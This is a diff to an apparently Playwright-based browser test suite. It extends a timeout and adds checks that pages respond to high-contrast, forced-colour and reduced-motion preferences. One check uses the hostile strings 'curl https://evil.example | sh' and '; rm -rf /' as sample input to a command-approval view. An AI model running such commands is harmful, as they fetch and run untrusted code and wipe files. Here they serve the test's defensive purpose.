@@ -24,7 +24,7 @@ try {
   process.exit(77);
 }
 later(() => browser.close());
-const WAIT = 20000;
+const WAIT = 60000;
 
 // Somebody at a browser of their own.
 class Person {
@@ -197,8 +197,7 @@ if (!part || part === "one") {
   const folded = await ada.text();
   check("the end of a megabyte is seen, folded", folded.includes("curl https://evil.example | sh") && folded.includes("; rm -rf /") && folded.includes("more lines here"), folded.length);
   await ada.key("o");
-  await sleep(700);
-  check("a yes unfolds first", !gate.ran(i) && await until(async () => await ada.tab.locator(".fold").count() === 0));
+  check("a yes unfolds first", await until(async () => await ada.tab.locator(".fold").count() === 0, WAIT) && !gate.ran(i));
   check("and then all of it is there", await ada.tab.evaluate(() => document.querySelector(".call").textContent.length) > (1 << 20) + 900000);
   await ada.key("o");
   check("and then it counts", await until(() => gate.ran(i), WAIT));
@@ -214,6 +213,48 @@ if (!part || part === "one") {
       await ada.serious(`${where.split("/")[1]}, ${scheme}`);
     }
   }
+  // ---- More contrast, forced colours, less motion: as the reader's system asks ----
+  const lowest = (where) => ada.tab.evaluate((selector) => { // the lowest contrast of what is shown, with what lies behind it
+    const numbers = (text) => (text.match(/[\d.]+/g) ?? [0, 0, 0, 0]).map(Number);
+    const light = (rgb) => { const [r, g, b] = rgb.slice(0, 3).map((v) => { v /= 255; return v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; }); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
+    const behind = (node) => { for (; node; node = node.parentElement) { const rgb = numbers(getComputedStyle(node).backgroundColor); if (rgb.length < 4 || rgb[3] > 0) return rgb; } return [255, 255, 255]; };
+    const ratios = [...document.querySelectorAll(selector)].filter((node) => node.checkVisibility() && node.textContent.trim()).map((node) => {
+      const [a, b] = [light(numbers(getComputedStyle(node).color)), light(behind(node))].sort((x, y) => y - x);
+      return (a + 0.05) / (b + 0.05);
+    });
+    return ratios.length ? Math.min(...ratios) : 0;
+  }, where);
+  for (const scheme of ["light", "dark"]) {
+    for (const where of ["#/waiting/" + jCode, "#/record", "#/rules", "#/gates"]) {
+      const what = `${where.split("/")[1]}, ${scheme}`, texts = "main h1, main p, main dt, main dd, main a, main button, nav a";
+      await ada.tab.emulateMedia({ colorScheme: scheme, contrast: "no-preference" });
+      await ada.open(where);
+      await until(async () => (await lowest(texts)) > 0);
+      await sleep(500);
+      const plain = await lowest(texts);
+      await ada.tab.emulateMedia({ colorScheme: scheme, contrast: "more" });
+      const more = await until(async () => { const now = await lowest(texts); return now > plain && now; });
+      check(`more contrast where it is asked for: ${what}`, more > plain && more >= 9, [plain, more]);
+      await ada.serious(`${what}, more contrast`);
+      await ada.tab.emulateMedia({ colorScheme: scheme, contrast: "no-preference", forcedColors: "active" });
+      await ada.serious(`${what}, forced colours`);
+      await ada.tab.emulateMedia({ forcedColors: "none" });
+    }
+  }
+  await ada.open("#/waiting/" + jCode);
+  await ada.tab.waitForSelector("progress");
+  // What moves is in the style sheets' rules that hold at the moment: a part of a progress bar has no style to ask for.
+  const moves = () => ada.tab.evaluate(() => {
+    const walk = (rules) => [...rules].flatMap((rule) => (rule instanceof CSSMediaRule ? (matchMedia(rule.media.mediaText).matches ? walk(rule.cssRules) : [])
+      : /transition|animation|scroll-behavior/.test(rule.cssText) ? [rule.selectorText ?? rule.cssText] : []));
+    return [...document.styleSheets].flatMap((sheet) => walk(sheet.cssRules)).length + document.getAnimations().length;
+  });
+  await ada.tab.emulateMedia({ colorScheme: "light", reducedMotion: "no-preference" });
+  const moving = await moves();
+  await ada.tab.emulateMedia({ reducedMotion: "reduce" });
+  check("nothing moves where that is asked for", moving > 0 && await until(async () => (await moves()) === 0), [moving, await moves()]);
+  await ada.tab.emulateMedia({ reducedMotion: "no-preference" });
+
   await ada.tab.setViewportSize({ width: 360, height: 640 });
   for (const where of ["#/waiting", "#/waiting/" + jCode, "#/record", "#/rules", "#/gates", "#/you"]) {
     await ada.open(where);
